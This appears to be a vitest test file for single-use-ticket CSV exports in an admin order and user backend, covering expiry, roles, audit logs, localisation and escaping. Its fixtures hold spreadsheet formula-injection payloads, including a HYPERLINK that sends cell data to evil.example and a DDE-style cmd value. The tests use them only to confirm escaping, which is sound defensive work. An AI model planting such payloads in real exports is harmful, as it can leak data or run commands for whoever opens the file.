import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { createUser, uniqueEmail } from '../../../test/accounts';
import { call } from '../../../test/auth-flows';
import { buy, seedCatalogue, signedIn } from '../../../test/commerce';
import { DIALECTS, type TestApp, createTestApp } from '../../../test/test-app';
import { iso } from '../../lib/clock';
import { sha256 } from '../../lib/secrets';
import { MAX_OPEN_ORDERS } from '../orders/open-order-cap';
import { newOrderNo } from '../orders/order-no';
import { sendCsv } from './csv';
import { fileStamp } from './export-request';

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
const FORMULA_NOTES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1', '@SUM(A1:A9)', '-2+3'];
const MULTILINE_NOTES = ['Refund, "partial"\r\nsee ticket 7', 'line one\nline two', 'cr\ronly'];

describe.each(DIALECTS)('CSV exports through single-use tickets on %s', (dialect) => {
  let t: TestApp;
  let admin: { token: string; user: { id: number } };
  let alice: { token: string; email: string; orderNos: string[]; paid: string[] };
  let bob: { token: string; email: string; id: number };
  const userEmails: string[] = [];

  const ticketFor = async (token: string): Promise<string> => {
    const res = await call(t.app, 'POST', '/api/export-ticket', { token, body: {} });
    expect(res.status).toBe(200);
    return res.body.data.ticket as string;
  };
  const open = (path: string, query: Record<string, string>) =>
    t.app.inject({ method: 'GET', url: path, query });
  const rowsOf = (body: Buffer): Record<string, string>[] => parse(body, { bom: true, columns: true }) as Record<string, string>[];

  beforeAll(async () => {
    t = await createTestApp(dialect, {}, {
      // A route whose query schema rejects unknown keys: proves the export keys are gone before validation.
      beforeReady: (app) => {
        app.get(
          '/api/test/strict-export',
          { config: { access: 'admin', export: 'users' }, schema: { querystring: z.strictObject({ email: z.string().optional() }) } },
          async (request, reply) => (request.csvExport ? sendCsv(request, reply, [{ key: 'email', value: (r: { email: string }) => r.email }], [{ email: String((request.query as { email?: string }).email) }]) : { query: request.query }),
        );
      },
    });
    await seedCatalogue(t);
    admin = await signedIn(t, 'admin');

    const a = await signedIn(t);
    const orderNos: string[] = [];
    for (let i = 0; i < MAX_OPEN_ORDERS; i++) orderNos.push(await buy(t, a.token, 2, 'sandbox'));
    // A customer may hold only MAX_OPEN_ORDERS open orders; the other 20 of this long list are copies
    // of a bought one, written straight into the store.
    const { id: _id, ...template } = await t.db.db.selectFrom('orders').selectAll().where('order_no', '=', orderNos[0]!).executeTakeFirstOrThrow();
    for (let i = MAX_OPEN_ORDERS; i < 25; i++) {
      const orderNo = newOrderNo('dynamic', t.clock.now());
      await t.db.db.insertInto('orders').values({ ...template, order_no: orderNo }).execute();
      orderNos.push(orderNo);
    }
    const paid = orderNos.slice(0, 3);
    for (const orderNo of paid) expect((await call(t.app, 'POST', '/api/manage/order-verify', { token: admin.token, body: { orderNo } })).status).toBe(200);
    alice = { token: a.token, email: a.user.email, orderNos, paid };

    const b = await signedIn(t);
    bob = { token: b.token, email: b.user.email, id: b.user.id };
    await buy(t, b.token, 1, 'sandbox');
    for (const note of [...FORMULA_NOTES, ...MULTILINE_NOTES]) {
      const res = await call(t.app, 'POST', '/api/manage/recharge', { token: admin.token, body: { userId: b.user.id, bytes: 1024, note } });
      expect(res.status).toBe(200);
    }

    for (let i = 0; i < 22; i++) {
      const email = uniqueEmail('csvuser');
      await createUser(t, { email, password: 'Passw0rdOK' });
      userEmails.push(email);
    }
  });
  afterAll(() => t.close());

  it('issues a 32-byte ticket to a signed-in user, stores only its hash, valid for 60 s', async () => {
    expect((await call(t.app, 'POST', '/api/export-ticket', { body: {} })).status).toBe(401);
    const ticket = await ticketFor(alice.token);
    expect(Buffer.from(ticket, 'base64url')).toHaveLength(32);
    const row = await t.db.db.selectFrom('export_tickets').selectAll().where('ticket_hash', '=', sha256(ticket)).executeTakeFirstOrThrow();
    expect(row.expires_at).toBe(iso(new Date(t.clock.now().getTime() + 60_000)));
    expect(row.used_at).toBeNull();
    expect(await t.db.db.selectFrom('export_tickets').select('ticket_hash').where('ticket_hash', '=', ticket).execute()).toEqual([]);
  });

  it('answers every order matching the filters, past the first page, as a UTF-8 CSV attachment with BOM', async () => {
    // The same filters as JSON: one page of 20 out of 22.
    const page = await call(t.app, 'GET', `/api/manage/order?email=${encodeURIComponent(alice.email)}&status=pending`, { token: admin.token });
    expect(page.body.data).toMatchObject({ total: 22, pageSize: 20 });
    expect(page.body.data.items).toHaveLength(20);

    const res = await open('/api/manage/order', { email: alice.email, status: 'pending', page: '1', pageSize: '20', token: await ticketFor(admin.token) });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="orders-${fileStamp(t.clock.now())}.csv"`);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="orders-\d{8}-\d{6}\.csv"$/);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.rawPayload.subarray(0, 3).equals(BOM)).toBe(true);
    expect(res.body).toContain('\r\n');

    const rows = rowsOf(res.rawPayload);
    expect(Object.keys(rows[0]!)).toEqual([
      'Order no.', 'User email', 'Type', 'Type (code)', 'Status', 'Status (code)', 'Payment method', 'Payment method (code)', 'Amount', 'Currency', 'Items',
      'Created (UTC)', 'Paid (UTC)', 'Confirmed by', 'Confirmed by (code)', 'Provider reference', 'Note',
    ]);
    expect(rows).toHaveLength(22);
    expect(new Set(rows.map((r) => r['Order no.']))).toEqual(new Set(alice.orderNos.filter((n) => !alice.paid.includes(n))));
    for (const r of rows) {
      // The words of the screen, each beside its code.
      expect(r).toMatchObject({ 'User email': alice.email, Type: 'Rotating traffic', 'Type (code)': 'dynamic', Status: 'Awaiting payment', 'Status (code)': 'pending', 'Payment method': 'Sandbox', 'Payment method (code)': 'sandbox', Amount: '25.00', Currency: 'USD', Items: 'Basic 10 GB', 'Paid (UTC)': '', Note: '' });
    }

    // Without the status filter: all 25 of Alice's orders, and none of Bob's.
    const all = rowsOf((await open('/api/manage/order', { email: alice.email, token: await ticketFor(admin.token) })).rawPayload);
    expect(all).toHaveLength(25);
    expect(all.filter((r) => r['Status (code)'] === 'paid').map((r) => r['Order no.']).sort()).toEqual([...alice.paid].sort());
    expect(all.find((r) => r['Status (code)'] === 'paid')).toMatchObject({ 'Confirmed by': 'Administrator', 'Confirmed by (code)': 'admin', 'Paid (UTC)': expect.stringMatching(/^\d{4}-\d\d-\d\dT/) });
  });

  it('leaves an audit row per export: who, which list, the filters and the row count; a refused download leaves none', async () => {
    const audits = () => t.db.db.selectFrom('audit_logs').selectAll().where('action', 'like', 'export.%').orderBy('id').execute();
    const before = (await audits()).length;
    const res = await open('/api/manage/order', { email: alice.email, status: 'pending', page: '2', lang: 'zh', token: await ticketFor(admin.token) });
    expect(res.statusCode).toBe(200);
    const users = await open('/api/manage/user', { email: 'csvuser-', token: await ticketFor(admin.token) });
    expect(users.statusCode).toBe(200);
    const rows = (await audits()).slice(before);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({ actor_id: admin.user.id, action: 'export.orders', target: 'export:orders', before: null });
    expect(JSON.parse(rows[0]!.after!)).toEqual({ filters: { email: alice.email, status: 'pending' }, rows: 22, filename: expect.stringMatching(/^orders-\d{8}-\d{6}\.csv$/) });
    expect(rows[1]).toMatchObject({ actor_id: admin.user.id, action: 'export.users' });
    expect(JSON.parse(rows[1]!.after!)).toMatchObject({ filters: { email: 'csvuser-' }, rows: 22 });

    // A customer's ticket (403), a spent one (401) and a JSON read with a session export nothing.
    const spent = await ticketFor(alice.token);
    expect((await open('/api/manage/order', { token: spent })).statusCode).toBe(403);
    expect((await open('/api/manage/order', { token: spent })).statusCode).toBe(401);
    expect((await call(t.app, 'GET', '/api/manage/order', { token: admin.token })).status).toBe(200);
    expect(await audits()).toHaveLength(before + 2);
  });

  it('writes headers and package names in the language of ?lang=', async () => {
    const cn = await open('/api/manage/order', { email: alice.email, status: 'paid', lang: 'zh-cn', token: await ticketFor(admin.token) });
    expect(cn.statusCode).toBe(200);
    expect(cn.rawPayload.subarray(0, 3).equals(BOM)).toBe(true);
    const cnRows = rowsOf(cn.rawPayload);
    expect(cnRows).toHaveLength(3);
    expect(alice.paid).toContain(cnRows[0]!['订单号']);
    expect(cnRows[0]).toMatchObject({ 用户邮箱: alice.email, 商品: '基础 10 GB', 金额: '25.00', 币种: 'USD' });

    const tw = rowsOf((await open('/api/manage/order', { email: alice.email, status: 'paid', lang: 'zh-TW', token: await ticketFor(admin.token) })).rawPayload);
    expect(tw[0]).toMatchObject({ 商品: '基礎 10 GB', 狀態: '已付款', '狀態（代碼）': 'paid' });
  });

  it('escapes cells that a spreadsheet would run as formulas, and quotes commas, quotes and line breaks', async () => {
    const res = await open('/api/manage/order', { email: bob.email, kind: 'manual-recharge', token: await ticketFor(admin.token) });
    expect(res.statusCode).toBe(200);
    const notes = rowsOf(res.rawPayload).map((r) => r.Note);
    expect(notes.sort()).toEqual([...FORMULA_NOTES.map((n) => `'${n}`), ...MULTILINE_NOTES].sort());
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(res.body).not.toMatch(/(^|,)[=+\-@]/m);
  });

  it('spends a ticket on first use: the second download is a 401 in the language asked for', async () => {
    const token = await ticketFor(admin.token);
    expect((await open('/api/manage/order', { email: alice.email, token })).statusCode).toBe(200);
    const again = await open('/api/manage/order', { email: alice.email, lang: 'zh-cn', token });
    expect(again.statusCode).toBe(401);
    expect(again.json()).toEqual({ code: 'EXPORT_TICKET_INVALID', message: '下载链接已过期或已被使用，请在控制台重新导出。' });
    const row = await t.db.db.selectFrom('export_tickets').select('used_at').where('ticket_hash', '=', sha256(token)).executeTakeFirstOrThrow();
    expect(row.used_at).toBe(iso(t.clock.now()));
  });

  it('lets only one of many simultaneous downloads spend a ticket', async () => {
    const token = await ticketFor(admin.token);
    const answers = await Promise.all(Array.from({ length: 8 }, () => open('/api/manage/order', { email: bob.email, token })));
    expect(answers.map((r) => r.statusCode).sort()).toEqual([200, 401, 401, 401, 401, 401, 401, 401]);
  });

  it('expires a ticket after 60 seconds', async () => {
    const fresh = await ticketFor(admin.token);
    const stale = await ticketFor(admin.token);
    t.clock.advance(59_000);
    expect((await open('/api/manage/order', { email: bob.email, token: fresh })).statusCode).toBe(200);
    t.clock.advance(2_000);
    const res = await open('/api/manage/order', { email: bob.email, token: stale });
    expect(res.statusCode).toBe(401);
    expect(res.json().code).toBe('EXPORT_TICKET_INVALID');
  });

  it("checks the ticket user's role: a customer's ticket on an admin export is a 403 and is spent", async () => {
    const token = await ticketFor(alice.token);
    const res = await open('/api/manage/order', { token });
    expect(res.statusCode).toBe(403);
    expect(res.json().code).toBe('FORBIDDEN');
    expect((await open('/api/manage/order', { token })).statusCode).toBe(401);
  });

  it('refuses the ticket of a user disabled since', async () => {
    const { token, user } = await signedIn(t, 'admin');
    const ticket = await ticketFor(token);
    await t.db.db.updateTable('users').set({ status: 'disabled' }).where('id', '=', user.id).execute();
    expect((await open('/api/manage/order', { token: ticket })).statusCode).toBe(401);
  });

  it('never accepts a session token in the query string', async () => {
    for (const path of ['/api/manage/order', '/api/manage/user', '/api/manage/payment-review', '/api/user']) {
      const res = await open(path, { token: admin.token });
      expect(res.statusCode, path).toBe(401);
    }
    expect((await open('/api/manage/order', { token: '' })).json().code).toBe('EXPORT_TICKET_INVALID');
    expect((await t.app.inject({ method: 'GET', url: '/api/manage/order?token=a&token=b' })).statusCode).toBe(401);
  });

  it('reads a ticket only on export routes, and only without an Authorization header', async () => {
    const token = await ticketFor(admin.token);
    // Not an export route: the ticket signs nothing in and stays unspent.
    const other = await open('/api/manage/payment-review', { token });
    expect(other.statusCode).toBe(401);
    expect(other.json().code).toBe('UNAUTHENTICATED');
    // With a session header the list answers JSON as usual and leaves the ticket alone.
    const json = await call(t.app, 'GET', `/api/manage/order?email=${encodeURIComponent(bob.email)}&token=${token}`, { token: admin.token });
    expect(json.status).toBe(200);
    expect(json.body.data.total).toBe(8);
    // A HEAD request does not spend it either (link previews, prefetch).
    expect((await t.app.inject({ method: 'HEAD', url: '/api/manage/order', query: { token } })).statusCode).toBe(401);
    expect((await open('/api/manage/order', { email: bob.email, token })).statusCode).toBe(200);
  });

  it('drops YTO-TGC, lang and token from the query before it is validated', async () => {
    const res = await open('/api/manage/order', { email: bob.email, 'YTO-TGC': 'anything', token: await ticketFor(admin.token) });
    expect(res.statusCode).toBe(200);
    expect(rowsOf(res.rawPayload)).toHaveLength(8);
    // A strict query schema sees neither key, with a ticket or with a session.
    const strict = await open('/api/test/strict-export', { email: 'x@example.com', 'YTO-TGC': '1', lang: 'zh', token: await ticketFor(admin.token) });
    expect(strict.statusCode).toBe(200);
    expect(rowsOf(strict.rawPayload)).toEqual([{ 郵箱: 'x@example.com' }]);
    const session = await call(t.app, 'GET', '/api/test/strict-export?email=y&YTO-TGC=1&lang=en&token=zzz', { token: admin.token });
    expect(session.status).toBe(200);
    expect(session.body).toEqual({ query: { email: 'y' } });
    // Other unknown keys are still refused by that schema.
    expect((await call(t.app, 'GET', '/api/test/strict-export?other=1', { token: admin.token })).status).toBe(400);
  });

  it('exports every matching user, with escaped channel values', async () => {
    const [first] = userEmails;
    await t.db.db.updateTable('users').set({ channel_key: 'qd', channel_value: '@SUM(1+1)*cmd|"/C calc"!A0' }).where('email', '=', first!).execute();
    const res = await open('/api/manage/user', { email: 'csvuser-', token: await ticketFor(admin.token) });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="users-\d{8}-\d{6}\.csv"$/);
    expect(res.rawPayload.subarray(0, 3).equals(BOM)).toBe(true);
    const rows = rowsOf(res.rawPayload);
    expect(Object.keys(rows[0]!)).toEqual([
      'ID', 'Email', 'Account name', 'Role', 'Role (code)', 'Distributor', 'Commission rate (%)', 'Status', 'Status (code)', 'Invite code', 'Referrer ID', 'Referrer email',
      'Channel key', 'Channel value', 'Traffic left (bytes)', 'Active static IPs', 'Paid total', 'Remark', 'Registered (UTC)', 'Last login (UTC)', 'Last login IP',
    ]);
    expect(rows.map((r) => r.Email).sort()).toEqual([...userEmails].sort());
    expect(rows.find((r) => r.Email === first)).toMatchObject({ Role: 'Customer', 'Role (code)': 'customer', Distributor: 'false', Status: 'Active', 'Status (code)': 'active', 'Channel key': 'qd', 'Channel value': `'@SUM(1+1)*cmd|"/C calc"!A0`, 'Last login (UTC)': '' });
    // The JSON list still pages.
    const page = await call(t.app, 'GET', '/api/manage/user?email=csvuser-', { token: admin.token });
    expect(page.body.data).toMatchObject({ total: 22 });
    expect(page.body.data.items).toHaveLength(20);
  });
});
